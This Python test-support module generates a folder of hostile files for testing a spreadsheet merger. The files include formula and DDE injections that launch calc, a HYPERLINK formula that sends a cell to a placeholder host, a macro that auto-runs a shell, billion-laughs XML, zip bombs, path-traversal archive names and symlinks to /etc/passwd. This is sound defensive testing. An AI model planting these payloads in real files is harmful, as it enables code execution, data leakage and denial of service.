"""A folder as the worst of strangers would send it: every attack as a file, odd names, things that are no files, archives; good workbooks beside them.

Run: python -m tests.support.hostile_folder FOLDER. For Linux: pipes, sockets, links, names that are no UTF-8.
"""

from __future__ import annotations

import io
import os
import re
import stat
import struct
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

from tests.support import hostile, xlsb
from tests.support.departments import OFFICE, XML, department, seeded, workbook, write_departments

GOOD = "good: "  # begins what is said of a file that has to be merged
PAIR = "pair: "  # of two files of which one has to be merged
SHEET = "xl/worksheets/sheet1.xml"  # of made attacks; in a form it may hold the instructions
INJECTIONS = {
    "command": "=cmd|'/C calc'!A0", "link": '=HYPERLINK("http://example.invalid/?"&A1,"打开")', "plus": "+1+1", "minus": "-2+3", "at": "@SUM(1,1)", "tab": "\t=1+1", "return": "\r=1+1",
    "full-width": "＝1+1", "quote": "'=1+1", "markup": "<b>&amp;</b><script>", "control": "a_x0007_b_x0000_c_x001B_[31m", "turned": "\u202eexe.slx\u2066", "escaped": "_x003D_1+1",
    "long": "指标" * 16_000, "line": "第一行\n=1+1", "rich": "[red]x[/red]", "path": "../../../etc/passwd",
}  # fmt: skip


def good_bytes(number: int, name: str = "", layout: str = "published", texts: tuple[str, ...] = ()) -> bytes:
    """A form in full, of a department of its own."""
    return workbook(name or department(100_000 + number, 1), seeded(f"hostile-{number}"), layout, texts)[0]


def members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: archive.read(n) for n in archive.namelist()}


def table_of(parts: dict[str, bytes]) -> str:
    """The part that holds the table: the longest sheet."""
    return max((n for n in parts if n.startswith("xl/worksheets/")), key=lambda n: len(parts[n]))


def changed(number: int, part: str, pattern: str, into: str, **more: bytes) -> bytes:
    """A form in full with one place of a part replaced. part: empty for the table's."""
    parts = members(good_bytes(number))
    part = part or table_of(parts)
    text, count = re.subn(pattern, lambda _: into, parts[part].decode(), count=1)
    assert count, (part, pattern)
    return hostile.zipped({**parts, part: text.encode(), **more})


def with_row(number: int, cell: str) -> bytes:
    """A form in full, and below it a row of its own."""
    return changed(number, "", "</sheetData>", f'<row r="900">{cell}</row></sheetData>')


def laughs(number: int) -> bytes:
    """Ten entities of ten each: ten thousand million letters."""
    entities = '<!ENTITY a0 "aaaaaaaaaa">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    parts = members(good_bytes(number))
    table = table_of(parts)
    text = parts[table].decode().replace("<worksheet", f"<!DOCTYPE x [{entities}]><worksheet", 1)
    return hostile.zipped({**parts, table: text.replace("</sheetData>", '<row r="900"><c r="A900" t="str"><v>&a9;</v></c></row></sheetData>').encode()})


# ---------------------------------------------------------------- workbooks that would do something


def with_macros() -> bytes:
    parts = members(good_bytes(1))
    types = parts["[Content_Types].xml"].decode().replace("vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "vnd.ms-excel.sheet.macroEnabled.main+xml")
    types = types.replace("<Override", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override', 1)
    links = parts["xl/_rels/workbook.xml.rels"].decode()
    links = links.replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
    project = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + seeded("macro").randbytes(4000) + b'Sub Auto_Open()\r\nShell "calc.exe"\r\nEnd Sub'
    return hostile.zipped({**parts, "[Content_Types].xml": types.encode(), "xl/_rels/workbook.xml.rels": links.encode(), "xl/vbaProject.bin": project})


def with_link(number: int, link: str, formula: str, target: str = "") -> bytes:
    """A form whose workbook refers to something outside, with a cell that asks for it."""
    parts = members(good_bytes(number))
    book = parts["xl/workbook.xml"].decode().replace("</sheets>", '</sheets><externalReferences><externalReference r:id="rId98"/></externalReferences>')
    links = parts["xl/_rels/workbook.xml.rels"].decode().replace(
        "</Relationships>", f'<Relationship Id="rId98" Type="{OFFICE}/relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>'
    )
    types = parts["[Content_Types].xml"].decode().replace(
        "</Types>", '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'
    )
    outside = f'{XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OFFICE}/relationships">{link}</externalLink>'
    cell = f'<row r="900"><c r="L900" t="str"><f>{formula}</f><v>1</v></c></row></sheetData>'
    parts |= {"xl/workbook.xml": book.encode(), "xl/_rels/workbook.xml.rels": links.encode(), "[Content_Types].xml": types.encode(), "xl/externalLinks/externalLink1.xml": outside.encode()}
    if target:
        reference = xlsb.relations(("rId1", "externalLinkPath", target)).replace("/></Rel", ' TargetMode="External"/></Rel')
        parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = reference.encode()
    table = table_of(parts)
    parts[table] = parts[table].decode().replace("</sheetData>", cell).encode()
    return hostile.zipped(parts)


_BOOK = '<externalBook r:id="rId1"><sheetNames><sheetName val="表"/></sheetNames></externalBook>'
_DDE = '<ddeLink ddeService="cmd" ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'

# ---------------------------------------------------------------- archives


def archive(contents: Iterable[tuple[str, bytes]], mode: int = 0) -> bytes:
    """A zip; names may stand twice. mode: file type of every member, such as a link."""
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        warnings.simplefilter("ignore")
        for name, content in contents:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = mode << 16
            target.writestr(info, content)
    return stream.getvalue()


def raw_zip(name: bytes, packed: bytes, content: bytes, flags: int) -> bytes:
    """One deflated member as its bytes stand in the zip."""
    fields = struct.pack("<HHHHHIIIHH", 20, flags, 8, 0, 33, zlib.crc32(content), len(packed), len(content), len(name), 0)
    start = b"PK\x03\x04" + fields + name + packed
    directory = b"PK\x01\x02" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    return start + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(directory), len(start), 0)


def _deflated(content: bytes) -> bytes:
    return zlib.compress(content)[2:-4]


def with_old_name(name: str, content: bytes) -> bytes:
    """As Chinese Windows packs: the name in GBK, no flag."""
    return raw_zip(name.encode("gbk"), _deflated(content), content, 0)


def with_password(name: str, content: bytes, password: bytes) -> bytes:
    """The cipher of old zip programs, which every program still reads."""
    crc_table = [_crc_entry(i) for i in range(256)]
    keys = [0x12345678, 0x23456789, 0x34567890]

    def turned(byte: int) -> int:
        mixed = keys[2] | 2
        out = byte ^ (mixed * (mixed ^ 1) >> 8 & 0xFF)
        update(byte)
        return out

    def update(byte: int) -> None:
        keys[0] = keys[0] >> 8 ^ crc_table[(keys[0] ^ byte) & 0xFF]
        keys[1] = (keys[1] + (keys[0] & 0xFF)) * 134775813 + 1 & 0xFFFFFFFF
        keys[2] = keys[2] >> 8 ^ crc_table[(keys[2] ^ keys[1] >> 24) & 0xFF]

    for byte in password:
        update(byte)
    head = bytes(11) + bytes([zlib.crc32(content) >> 24])
    return raw_zip(name.encode(), bytes(turned(b) for b in head + _deflated(content)), content, 0x801)


def _crc_entry(value: int) -> int:
    for _ in range(8):
        value = value >> 1 ^ (0xEDB88320 if value & 1 else 0)
    return value


def _bomb_archive() -> bytes:
    zeros = hostile.deflated_zeros(200)
    return archive((f"{i}.xlsx", hostile.with_lying_part(hostile.book(hostile.sheet(), names=(f"表{i}",)), SHEET, zeros, 200_000_000)) for i in range(10))


def _plain_bomb() -> bytes:
    zeros = hostile.deflated_zeros(1_000, fill=b"\0")
    return hostile.with_lying_part({"大.xlsx": b""}, "大.xlsx", zeros, 1_000_000_000)


def _nested(depth: int) -> bytes:
    data = archive([("自评表.xlsx", good_bytes(40))])
    for i in range(depth):
        data = archive([(f"第{i}层.zip", data)])
    return data


FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    # forms in full with one attack in them: name → what it is, bytes
    "角落.xlsx": ("form and a cell at XFD1048576", lambda: with_row(2, '<c r="XFD1048576"><v>1</v></c>')),
    "引用.xlsx": ("form and a reference D99999999999", lambda: with_row(3, '<c r="D99999999999"><v>7</v></c>')),
    "非数.xlsx": ("form and a value NaN", lambda: with_row(4, '<c r="A900"><v>NaN</v></c>')),
    "无穷.xlsx": ("form and a value 1e999", lambda: with_row(5, '<c r="A900"><v>1e999</v></c>')),
    "计数.xlsx": ("form whose shared strings claim uniqueCount 4294967295", lambda: changed(6, "xl/sharedStrings.xml", r'count="\d+" uniqueCount="\d+"', 'count="4294967295" uniqueCount="4294967295"')),
    "溢出错误.xlsx": ("form and a cell #SPILL!", lambda: with_row(7, '<c r="A900" t="e"><v>#SPILL!</v></c>')),
    "十亿次笑声.xlsx": ("form with entities that grow to 10,000,000,000 letters", lambda: laughs(8)),
    "宏.xlsm": (GOOD + "form with macros that would start a program", with_macros),
    "外部链接.xlsx": (GOOD + "form with a link to a workbook on another machine", lambda: with_link(9, _BOOK, "[1]表!A1", "file://example.invalid/share/x.xlsx")),
    "动态交换.xlsx": (GOOD + "form with a DDE link that would start a program", lambda: with_link(10, _DDE, "[1]!A0")),
    "空.xlsx": ("empty file", lambda: b""),
    "锁/~$自评表.xlsx": ("lock file of Excel", lambda: b"\x05user".ljust(165, b" ")),
    "锁/.~lock.自评表.xlsx#": ("lock file of LibreOffice", lambda: b",user,host,01.03.2024 09:00,file:///x;"),
    "锁/.~自评表.xlsx": ("lock file of WPS", lambda: b"\x05user".ljust(165, b" ")),
    ".隐藏.xlsx": ("good workbook under a hidden name", lambda: good_bytes(11)),
    "__MACOSX/._自评表.xlsx": ("resource fork of a Mac", lambda: b"\x00\x05\x16\x07" + bytes(100)),
    "大写.XLSX": (GOOD + "form, ending in capitals", lambda: good_bytes(12)),
    "其实是新格式.xls": (GOOD + "xlsx named .xls", lambda: good_bytes(13)),
    "没有后缀": ("good workbook without an ending", lambda: good_bytes(14)),
    "说明.txt": ("text that is no workbook", lambda: b"hello"),
    "说明.pdf": ("PDF", lambda: b"%PDF-1.7\n"),
    "重复/甲.xlsx": (PAIR + "one of two files of the same content", lambda: good_bytes(15)),
    "重复/乙.xlsx": (PAIR + "the other of two files of the same content", lambda: good_bytes(15)),
    "重复/第一次.xlsx": (PAIR + "one of two different forms of one department", lambda: good_bytes(16, "某市重复报送局")),
    "重复/第二次.xlsx": (PAIR + "the other of two different forms of one department", lambda: good_bytes(17, "某市重复报送局")),
    # names of files that a sheet would take for formulas, a shell for options, a link for its end
    "=cmd|'calc'!A1.xlsx": (GOOD + "file name begins with =", lambda: good_bytes(20)),
    "+1+1.xlsx": (GOOD + "file name begins with +", lambda: good_bytes(21)),
    "-o.xlsx": (GOOD + "file name begins with -", lambda: good_bytes(22)),
    "@SUM(1).xlsx": (GOOD + "file name begins with @", lambda: good_bytes(23)),
    "\t=1+1.xlsx": (GOOD + "file name begins with a tab", lambda: good_bytes(24)),
    "\r=1+1.xlsx": (GOOD + "file name begins with a carriage return", lambda: good_bytes(25)),
    "换\n行.xlsx": (GOOD + "file name with a line break", lambda: good_bytes(26)),
    "\u202e反xslx.exe.xlsx": (GOOD + "file name that is shown from right to left", lambda: good_bytes(27)),
    "\x1b[31m红\x07.xlsx": (GOOD + "file name with control characters", lambda: good_bytes(28)),
    "#[a]'b\"%20&?<c>.xlsx": (GOOD + "file name of signs that end a link", lambda: good_bytes(29)),
    "[red]标[/red].xlsx": (GOOD + "file name that is markup of the terminal", lambda: good_bytes(30)),
    # archives
    "压缩/好.zip": (GOOD + "zip of three forms", lambda: archive((f"单位{i}/自评表.xlsx", good_bytes(31 + i)) for i in range(3))),
    "压缩/中文旧编码.zip": (GOOD + "zip with a name in GBK without the UTF-8 flag", lambda: with_old_name("某某局/自评表.xlsx", good_bytes(34))),
    "压缩/好坏都有.zip": (GOOD + "zip of one form, one damaged form, one text", lambda: archive([("好.xlsx", good_bytes(35)), ("坏.xlsx", good_bytes(36)[:3000]), ("说明.txt", b"1")])),
    "压缩/套一层.zip": ("zip in a zip", lambda: _nested(1)),
    "压缩/套二十层.zip": ("zip in zip, twenty deep", lambda: _nested(20)),
    "压缩/炸弹.zip": ("zip of one member of a gigabyte", _plain_bomb),
    "压缩/十个炸弹.zip": ("zip of ten workbooks that each inflate to 200 MB", _bomb_archive),
    "压缩/越界.zip": ("zip whose names climb out", lambda: archive([("../../越界.xlsx", good_bytes(37)), ("/var/绝对.xlsx", good_bytes(38)), ("..\\..\\反斜杠.xlsx", good_bytes(39))])),
    "压缩/同名两次.zip": ("zip of two members of one name", lambda: archive([("自评表.xlsx", good_bytes(43)), ("自评表.xlsx", good_bytes(44))])),
    "压缩/链接.zip": ("zip whose member is a link to /etc/passwd", lambda: archive([("链接.xlsx", b"/etc/passwd")], stat.S_IFLNK | 0o777)),
    "压缩/密码.zip": ("zip with a password (old cipher, password 1234)", lambda: with_password("自评表.xlsx", good_bytes(41), b"1234")),
    "压缩/两万个.zip": ("zip of twenty thousand empty members", lambda: hostile.directory_flood(20_000)),
    "压缩/截断.zip": ("zip cut off", lambda: archive([("自评表.xlsx", good_bytes(42))])[:-200]),
    "压缩/空.zip": ("zip of nothing", lambda: archive([])),
    "压缩/包.rar": ("RAR archive", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100)),
    "压缩/包.7z": ("7z archive", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(100)),
}  # fmt: skip


def _write_special(folder: Path) -> dict[str, str]:
    """What is no ordinary file."""
    outside = folder.parent / f"{folder.name}-外"
    outside.mkdir(exist_ok=True)
    (outside / "外部.xlsx").write_bytes(good_bytes(50))
    os.mkfifo(folder / "管道.xlsx")
    os.mknod(folder / "插座.xlsx", 0o600 | stat.S_IFSOCK)
    (folder / "目录.xlsx").mkdir()
    links = {
        "零.xlsx": ("/dev/zero", "link to /dev/zero"), "指向外部.xlsx": (str(outside / "外部.xlsx"), "link to a good workbook outside the folder"), "环1.xlsx": ("环2.xlsx", "link in a loop"),
        "环2.xlsx": ("环1.xlsx", "link in a loop"), "悬空.xlsx": ("没有.xlsx", "link to nothing"), "回路": (".", "link to its own folder"), "外部目录": (str(outside), "link to a folder outside"),
    }  # fmt: skip
    for name, (target, _) in links.items():
        (folder / name).symlink_to(target)
    (folder / "无权限.xlsx").write_bytes(good_bytes(51))
    (folder / "无权限.xlsx").chmod(0)
    old = os.fsdecode("旧编码文件名自评表.xlsx".encode("gb18030"))
    (folder / old).write_bytes(good_bytes(52))
    return {
        "管道.xlsx": "named pipe", "插座.xlsx": "socket", "目录.xlsx": "a directory named x.xlsx", **{n: w for n, (_, w) in links.items()},
        "无权限.xlsx": "good workbook that may not be read (root may)", old: GOOD + "file name in GBK bytes",
    }  # fmt: skip


def _write_deep(folder: Path, name: str, depth: int, content: bytes) -> str:
    """Step by step: the whole path may be longer than the system takes."""
    part = name * (80 // len(name))
    at = os.open(folder, os.O_RDONLY)
    for _ in range(depth):
        os.mkdir(part, dir_fd=at)
        below = os.open(part, os.O_RDONLY, dir_fd=at)
        os.close(at)
        at = below
    with os.fdopen(os.open("自评表.xlsx", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=at), "wb") as stream:
        stream.write(content)
    os.close(at)
    return "/".join([part] * depth + ["自评表.xlsx"])


def write_hostile(folder: Path) -> dict[str, str]:
    """Writes everything into a folder that is not there yet. Returns: name below the folder → what it is; GOOD begins what has to be merged, PAIR that of which one has.

    Beside the folder lie FOLDER.json (the manifest of its ordinary workbooks) and FOLDER-外 (where links lead).
    """
    folder = folder.resolve()
    ordinary = write_departments(folder, 20, damaged=0, jobs=1)
    out = {g.file: GOOD + "ordinary workbook" for g in ordinary.good}
    made = {n: (w, make()) for n, (w, make) in FILES.items()}
    made |= {f"攻击/{n}.xlsx": (f"attack: {n}" + (", table kept" if a.kept else ""), a.make()) for n, a in hostile.ATTACKS.items()}
    made |= {
        f"注入/{n}.xlsx": (GOOD + f"injection in department, indicators and reasons: {n}", good_bytes(60 + i, (text + f"某局{i}" if n != "long" else "某市长文字局"), texts=(text, text + "率", text)))
        for i, (n, text) in enumerate(INJECTIONS.items())
    }
    for name, (what, data) in made.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        out[name] = what
    out[_write_deep(folder, "很长的目录", 12, good_bytes(53))] = GOOD + "path of nearly 3,000 bytes"
    out[_write_deep(folder, "过长的目录", 24, good_bytes(54))] = "path longer than the system takes (4,096 bytes)"
    return out | _write_special(folder)


def main() -> None:
    for name, what in write_hostile(Path(sys.argv[1])).items():
        print(f"{name[-60:]!a}: {what}")


if __name__ == "__main__":
    main()
